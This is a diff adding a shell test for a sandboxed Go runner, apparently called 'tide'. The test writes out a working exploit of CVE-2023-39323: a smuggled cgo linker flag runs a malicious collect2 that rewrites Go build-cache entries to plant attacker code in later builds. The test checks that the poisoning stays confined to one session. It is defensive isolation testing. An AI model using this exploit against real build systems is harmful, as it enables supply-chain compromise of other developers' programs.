@@ -469,3 +469,90 @@ P
   expect_contains "$out" "spawned on a terminal"
   expect_contains "$out" "bash ['substituted', 'stdin'] "
 }
+
+# A Go compile step that runs code of the project's (Go 1.19.8's cgo
+# checks miss a //go:cgo_ldflag after a //line directive, CVE-2023-39323,
+# so gcc runs the project's collect2) rewrites entries of Go's build cache
+# so that a later build of another program links the attacker's code.
+# Each session has a cache of its own: the attack reaches the attacker's
+# session only, never another session's builds (nor, through tide's build
+# cache, their programs).
+test_a_go_compile_step_poisons_only_its_own_session() {
+  command -v go >/dev/null && command -v gcc >/dev/null || skip "Go or gcc is missing"
+  collect2=$(gcc -print-prog-name=collect2)
+  mkdir -p att/evil victim
+  victim='package main
+
+import "fmt"
+
+func main() { fmt.Println("victim: 6 * 7 =", 6*7) }'
+  printf '%s\n' "$victim" >victim/main.go
+  printf '%s\n' "$victim" >att/evil/victim.go.txt
+  printf 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("victim: 6 * 7 = 41, planted") }\n' \
+    >att/evil/mal.go.txt
+  cat >att/main.go <<'P'
+package main
+
+/*
+int answer(void) { return 42; }
+*/
+import "C"
+import "fmt"
+
+//line _cgo_evil.go:1
+//go:cgo_ldflag "-B/work/evil/"
+
+func main() { fmt.Println("innocent-looking program:", C.answer()) }
+P
+  # In the compile step: build the victim and the attacker's program with
+  # the step's GOCACHE, then point the victim's compile entry at the
+  # attacker's object, and leave a mark.
+  cat >att/evil/collect2 <<P
+#!/bin/sh
+if [ ! -e /tmp/.done ]; then
+  touch /tmp/.done
+  C=/cache/go-build
+  ls \$C/*/*-a >/tmp/a0 2>/dev/null
+  cd /work && cp evil/victim.go.txt main.go && go build -o /tmp/v main.go >/dev/null 2>&1
+  ls \$C/*/*-a >/tmp/a1
+  cp evil/mal.go.txt main.go && go build -o /tmp/m main.go >/dev/null 2>&1
+  ls \$C/*/*-a >/tmp/a2
+  arch() { for e in \$(cat); do o=\$(cut -d' ' -f3 \$e); d=\$C/\$(echo \$o | cut -c1-2)/\$o-d; head -c 7 \$d 2>/dev/null | grep -q '!<arch>' && echo \$e; done; }
+  V=\$(comm -13 /tmp/a0 /tmp/a1 | arch | head -1)
+  M=\$(comm -13 /tmp/a1 /tmp/a2 | arch | head -1)
+  if [ -n "\$V" ] && [ -n "\$M" ]; then
+    mo=\$(cut -d' ' -f3 \$M); ms=\$(awk '{print \$4}' \$M)
+    awk -v o=\$mo -v s=\$ms '{printf "v1 %s %s %20d %20d\n", \$2, o, s, \$5}' \$V >\$V.new && mv -f \$V.new \$V
+  fi
+  echo "poisoned=\$V" >\$C/PLANTED
+fi
+exec $collect2 "\$@"
+P
+  chmod +x att/evil/collect2
+  run_tide run att/main.go
+  expect_rc 0
+  expect_contains "$OUT" "innocent-looking program: 42"
+  planted=$(find "$XDG_DATA_HOME" "$XDG_CACHE_HOME" -name PLANTED)
+  [ -n "$planted" ] || skip "this Go refuses the smuggled cgo flag (CVE-2023-39323 fixed): no attack to contain"
+  # It reached the attacker's own session's cache, and nothing else.
+  expect_eq "$(count_lines "$planted")" 1 "caches the compile step wrote into"
+  case $planted in
+    "$XDG_DATA_HOME"/tide/sessions/*/go-build/PLANTED) ;;
+    *) fail "the compile step wrote into $planted" ;;
+  esac
+  # The control: in the attacker's session the user's program is
+  # poisoned, so the attack did work (and tide's build cache keeps that
+  # build).
+  cp victim/main.go att/main.go
+  run_tide run att/main.go
+  expect_rc 0
+  expect_eq "$OUT" "victim: 6 * 7 = 41, planted" "the victim's code built in the attacker's session"
+  # The same program in a session of its own builds from its own cache,
+  # and is not given the attacker's session's build from tide's.
+  run_tide run victim/main.go
+  expect_rc 0
+  expect_eq "$OUT" "victim: 6 * 7 = 42"
+  # Nor is an ephemeral run, whose compile step has a cache of its own.
+  run_tide run --ephemeral victim/main.go
+  expect_eq "$OUT" "victim: 6 * 7 = 42"
+}
